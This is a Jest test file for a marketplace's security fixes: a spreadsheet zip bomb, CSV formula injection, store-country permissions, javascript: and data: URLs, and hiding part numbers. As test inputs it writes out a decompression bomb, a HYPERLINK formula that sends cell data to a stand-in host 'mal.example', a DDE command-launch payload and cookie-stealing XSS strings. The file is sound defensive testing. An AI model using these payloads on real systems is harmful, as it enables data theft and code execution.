import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { strToU8, zipSync } from 'fflate';
import { TestClient, eventually, startTestHttpApp, type TestHttpApp } from '@tuerca/platform/testing';
import { DEMO_PASSWORD, IdentityModule, seedIdentity } from '@tuerca/identity';
import { demoStores } from '@tuerca/demo-data';
import { MarketplaceModule } from '@tuerca/marketplace';

const P = '/api/catalogo/products';
const [bogota, , leon, virtualStore] = demoStores();
const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

const product = (referencia_1: string, extra: Record<string, unknown> = {}) => ({
  scenario: 'create',
  title: `Amortiguador delantero ${referencia_1}`,
  manufacturer_title: 'Monroe',
  referencia_1,
  inventario: 4,
  actualPrice: 180000,
  salesModel: 1,
  ...extra,
});

/**
 * The marketplace's findings of the security review (issue 20): the spreadsheet bomb (§1), formula injection
 * and error answers of the suggestions file (§6, §8), a store admin switching the store's country, `javascript:`
 * addresses and a virtual store's product addresses (§9). Each test fails without its fix.
 */
describe('marketplace security findings (issue 20)', () => {
  let t: TestHttpApp;
  const who: Record<'guest' | 'vendedor' | 'tienda' | 'refaccionaria' | 'operador', TestClient> = {} as never;

  beforeAll(async () => {
    t = await startTestHttpApp([IdentityModule, MarketplaceModule]);
    await seedIdentity(t.db('identity'));
    who.guest = new TestClient(t.url);
    for (const [key, email] of [
      ['vendedor', 'vendedor@tuerca.demo'],
      ['tienda', 'tienda@tuerca.demo'],
      ['refaccionaria', 'refaccionaria@tuerca.demo'],
      ['operador', 'operador@tuerca.demo'],
    ] as const) {
      who[key] = new TestClient(t.url);
      expect((await who[key].post('/api/users/auth/login', { email, password: DEMO_PASSWORD })).status).toBe(200);
    }
    // The demo stores, created by the operator through the console (then given their demo ids).
    for (const s of [bogota!, leon!, virtualStore!]) {
      const created = await who.operador.post('/admin-api/stores', {
        name: s.name,
        country: s.country,
        city: s.city,
        isVirtualStore: s.virtual,
        pathPrefix: s.pathPrefix,
        showProductReferences: !s.virtual,
      });
      expect(created.status).toBe(201);
      await t.db('marketplace').em().execute(`update stores set id = ? where id = ?`, [s.id, created.body.id]);
    }
  });

  afterAll(async () => {
    await t?.close();
  });

  it('§1: a spreadsheet bomb (KB unpacking to MB of empty rows) is rejected by the job, and requests meanwhile are answered', async () => {
    const bomb = zipSync(
      {
        'xl/workbook.xml': strToU8(
          `<?xml version="1.0"?><workbook xmlns="${NS}"><sheets><sheet name="x" sheetId="1"/></sheets></workbook>`,
        ),
        'xl/worksheets/sheet1.xml': strToU8(
          `<worksheet xmlns="${NS}"><sheetData>${'<row r="1"/>'.repeat(400_000)}</sheetData></worksheet>`,
        ),
      },
      { level: 9 },
    );
    expect(bomb.length).toBeLessThan(16 * 1024);
    const started = Date.now();
    const upload = await who.vendedor.post(`${P}/imports`, { fileName: 'bomba.xlsx', contentBase64: Buffer.from(bomb).toString('base64') });
    expect([upload.status, upload.body.data.status]).toEqual([202, 'queued']);
    // Other people's requests go on being answered while the job looks at the file.
    const meanwhile = await Promise.all([
      who.guest.get(`${P}?filter=${encodeURIComponent('{"search":"amortiguador"}')}`),
      who.guest.get('/health'),
    ]);
    expect(meanwhile.map((r) => r.status)).toEqual([200, 200]);
    const done = await eventually(async () => {
      const r = await who.vendedor.get(`${P}/imports/${upload.body.data.importId}`);
      return r.body.data?.status === 'rejected' ? r.body.data : null;
    });
    expect(done.errors.map((e: { text: string }) => e.text)).toEqual([
      'El archivo tiene más de 100.000 filas (contando las vacías): divídelo en varios archivos.',
    ]);
    // Seen by people as well as machines (not a timed assertion: the figure goes to the log).
    process.stdout.write(`spreadsheet bomb rejected ${Date.now() - started} ms after the upload\n`);
  });

  it('§6: seller text that a spreadsheet would run as a formula reaches the suggestions file as text', async () => {
    expect((await who.vendedor.post(P, product('=HYPERLINK("http://mal.example/?x="&A1,"Ver")'))).status).toBe(201);
    expect(
      (await who.vendedor.post(P, product('SEC-2', { title: "@SUM(1+1)*cmd|' /C calc'!A0", manufacturer_title: '+Monroe' }))).status,
    ).toBe(201);
    expect((await who.vendedor.post(P, product('-2+3', { title: '\tTabulado' }))).status).toBe(201);
    const res = await who.vendedor.get(`${P}/downloadSuggestions`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = (res.body as string)
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('Número de parte,Marca,Producto,Sugerencias');
    const cells = lines.slice(1).join('\n');
    for (const line of lines.slice(1))
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')))
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'=HYPERLINK(""http://mal.example/?x=""&A1,""Ver"")`);
    expect(cells).toContain(`'+Monroe`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(cells).toContain(`'-2+3`);
  });

  it('§8: a refused suggestions file answers JSON with its Spanish text, not a 500 in CSV clothing', async () => {
    const foreign = await who.vendedor.get(`${P}/downloadSuggestions?storeId=${leon!.id}`);
    expect(foreign.status).toBe(403);
    expect(foreign.headers.get('content-type')).toMatch(/^application\/json/);
    expect(foreign.body.errors).toEqual(['No tienes permiso para realizar esta acción']);
    const bad = await who.vendedor.get(`${P}/downloadSuggestions?storeId=no-es-un-id`);
    expect([bad.status, bad.body.errors]).toEqual([400, ['Identificador inválido']]);
    expect((await who.guest.get(`${P}/downloadSuggestions`)).status).toBe(401);
  });

  it("§9: a store admin edits their store but cannot switch its country (and so every price's currency); operators can", async () => {
    const mine = (await who.refaccionaria.get(`/admin-api/stores/${leon!.id}`)).body;
    expect(mine).toMatchObject({ country: 'MX', currency: 'MXN' });
    const switched = await who.refaccionaria.request('PUT', `/admin-api/stores/${leon!.id}`, { ...mine, country: 'CO' });
    expect([switched.status, switched.body.errors]).toEqual([403, ['Solo un operador puede cambiar el país de la tienda.']]);
    expect((await who.refaccionaria.get(`/admin-api/stores/${leon!.id}`)).body).toMatchObject({ country: 'MX', currency: 'MXN' });
    // Their own edits go through, the country untouched.
    const renamed = await who.refaccionaria.request('PUT', `/admin-api/stores/${leon!.id}`, { ...mine, city: 'León, Guanajuato' });
    expect(renamed.body).toMatchObject({ city: 'León, Guanajuato', country: 'MX', currency: 'MXN' });
    const byOperator = await who.operador.request('PUT', `/admin-api/stores/${leon!.id}`, { ...renamed.body, country: 'CO' });
    expect(byOperator.body).toMatchObject({ country: 'CO', currency: 'COP' });
    await who.operador.request('PUT', `/admin-api/stores/${leon!.id}`, { ...byOperator.body, country: 'MX' });
  });

  it('§9: logos and product images take http(s) addresses (or the site’s own paths), never javascript: or data:', async () => {
    for (const logotypeUrl of [
      'javascript:alert(document.cookie)',
      'JaVaScRiPt://x.co/%0aalert(1)',
      'data:image/svg+xml;base64,PHN2Zz4=',
    ]) {
      const res = await who.operador.request('PUT', `/admin-api/stores/${bogota!.id}`, { logotypeUrl });
      expect([logotypeUrl, res.status, res.body.errors]).toEqual([logotypeUrl, 400, ['URL inválida']]);
    }
    expect(
      (await who.operador.request('PUT', `/admin-api/stores/${bogota!.id}`, { logotypeUrl: '/themes/tuerca/stores/la-68.svg' })).status,
    ).toBe(200);
    expect(
      (await who.operador.request('PUT', `/admin-api/stores/${bogota!.id}`, { logotypeUrl: 'https://cdn.tuerca.co/la-68.svg' })).status,
    ).toBe(200);
    const image = await who.vendedor.post(P, product('SEC-IMG', { imagesURLs: ['javascript:alert(1)'] }));
    expect([image.status, image.body.errors]).toEqual([400, ['URL inválida']]);
  });

  it('§9: a virtual store that hides references keeps the part number out of its products’ addresses', async () => {
    const created = await who.tienda.post(P, product('VS-PN-4455', { title: 'Amortiguador delantero' }));
    expect(created.status).toBe(201);
    expect(created.body.data.productUrl).toMatch(/^amortiguador-delantero-monroe-[0-9a-f]{10}$/);
    // A store that starts hiding its references has its products re-addressed.
    const shown = await who.vendedor.post(P, product('LA68-7788', { title: 'Disco de freno' }));
    expect(shown.body.data.productUrl).toMatch(/la68-7788/);
    const store = (await who.operador.get(`/admin-api/stores/${bogota!.id}`)).body;
    expect(
      (
        await who.operador.request('PUT', `/admin-api/stores/${bogota!.id}`, {
          ...store,
          isVirtualStore: true,
          pathPrefix: 'la-68',
          showProductReferences: false,
        })
      ).status,
    ).toBe(200);
    const readdressed = (await who.vendedor.get(`${P}/${shown.body.data.id}/loadProduct`)).body.data;
    expect(readdressed.productUrl).not.toMatch(/7788/);
    await eventually(async () => {
      const r = await who.guest.get(`${P}/getProductDetailByUrl?productUrl=${encodeURIComponent(readdressed.productUrl)}`);
      return r.status === 200 ? r : null;
    });
    await who.operador.request('PUT', `/admin-api/stores/${bogota!.id}`, {
      ...store,
      isVirtualStore: false,
      pathPrefix: null,
      showProductReferences: true,
    });
  });
});
